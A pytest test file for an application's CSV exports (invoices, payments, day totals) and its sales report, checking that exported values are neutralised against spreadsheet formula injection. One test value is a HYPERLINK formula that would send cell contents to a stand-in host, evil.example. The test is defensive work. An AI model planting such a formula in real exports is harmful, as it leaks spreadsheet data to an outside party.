"""CSV for the accountant and the date-range sales report, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest

from app.db.engine import Database
from app.domain.errors import PermissionDeniedError, ValidationError
from app.domain.permissions import Actor
from app.services.container import Services
from tests.integration.day_support import add_document, add_payment

D = Decimal
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def week(services: Services, owner: Actor, desk: Actor, db: Database) -> tuple[date, date]:
    """Three days of business, the first two closed; a void on day 2 of an invoice of day 1."""
    today = services.day_close.today(owner)
    day1, day2, day3 = today - timedelta(days=2), today - timedelta(days=1), today
    first = add_document(
        db, desk, day1, 101, labor="100.00", parts="50.00", tax="5.13", customer_name=HOSTILE
    )
    add_document(db, desk, day1, 102, labor="200.00", customer_name="@risk Fleet")
    add_payment(
        db, desk, day1, "cash", "155.13", invoice_id=first, tendered="160.00", note="-2 for the coffee"
    )
    add_payment(db, desk, day1, "account", "200.00")
    add_document(db, desk, day2, 103, sublet="80.00", status="void", void_business_date=day2)
    add_document(db, desk, day2, 3, kind="credit_note", labor="-100.00", customer_name="+1 fleet")
    add_document(db, desk, day3, 104, fees="12.50")
    services.day_close.close(owner, day1)
    services.day_close.close(owner, day2)
    return day1, day3


def test_invoices_csv_has_every_document_and_no_live_formula(
    services: Services, owner: Actor, week: tuple[date, date]
) -> None:
    lines = rows(services.exports.invoices_csv(owner, *week))
    assert [(r["document"], r["number"], r["status"]) for r in lines] == [
        ("Invoice", "101", "posted"),
        ("Invoice", "102", "posted"),
        ("Credit note", "3", "posted"),
        ("Invoice", "103", "void"),
        ("Invoice", "104", "posted"),
    ]
    assert lines[0]["customer"] == "'" + HOSTILE
    assert lines[1]["customer"] == "'@risk Fleet"
    assert lines[2]["customer"] == "'+1 fleet"
    assert lines[2]["labor"] == "-100.00" and lines[2]["total"] == "-100.00"  # a number stays a number
    assert lines[0]["total"] == "155.13"
    assert not any(v.startswith(("=", "+", "@", "\t")) for r in lines for v in r.values())


def test_payments_csv(services: Services, owner: Actor, week: tuple[date, date]) -> None:
    lines = rows(services.exports.payments_csv(owner, *week))
    assert [(r["method"], r["amount"], r["tendered"], r["change"], r["document"]) for r in lines] == [
        ("Cash", "155.13", "160.00", "4.87", "Invoice 101"),
        ("On account", "200.00", "", "", ""),
    ]
    assert lines[0]["note"] == "'-2 for the coffee"
    assert lines[0]["terminal"] == "Front desk 2"


def test_the_sales_report_nets_credits_and_voids_per_day(
    services: Services, owner: Actor, week: tuple[date, date]
) -> None:
    day1, day3 = week
    report = services.exports.sales_report(owner, day1, day3)
    assert [(d.business_date, d.invoice_count, d.void_count, d.net.total, d.closed) for d in report.days] == [
        (day1, 2, 0, D("355.13"), True),
        (day1 + timedelta(days=1), 1, 1, D("-100.00"), True),  # posted 80.00 and voided it; a 100.00 credit
        (day3, 1, 0, D("12.50"), False),
    ]
    assert report.total.total == D("267.63")
    assert (report.total.labor, report.total.sublet) == (D("200.00"), D("0.00"))
    lines = rows(services.exports.sales_report_csv(owner, day1, day3))
    assert lines[-1]["business_date"] == "total" and lines[-1]["total"] == "267.63"


def test_day_totals_are_the_frozen_closes(services: Services, owner: Actor, week: tuple[date, date]) -> None:
    lines = rows(services.exports.day_totals_csv(owner, *week))
    assert [
        (r["invoices"], r["gross_sales"], r["net_total"], r["paid_cash"], r["grand_total"]) for r in lines
    ] == [
        ("2", "355.13", "355.13", "155.13", "355.13"),
        ("1", "80.00", "-100.00", "0.00", "435.13"),
    ]
    assert lines[0]["closed_by"] == "Olivia Owner" and lines[0]["paid_account"] == "200.00"


def test_exports_are_the_owners_and_ranges_must_make_sense(
    services: Services, owner: Actor, desk: Actor, week: tuple[date, date]
) -> None:
    day1, day3 = week
    with pytest.raises(PermissionDeniedError):
        services.exports.invoices_csv(desk, day1, day3)
    with pytest.raises(ValidationError, match="before the start"):
        services.exports.payments_csv(owner, day3, day1)
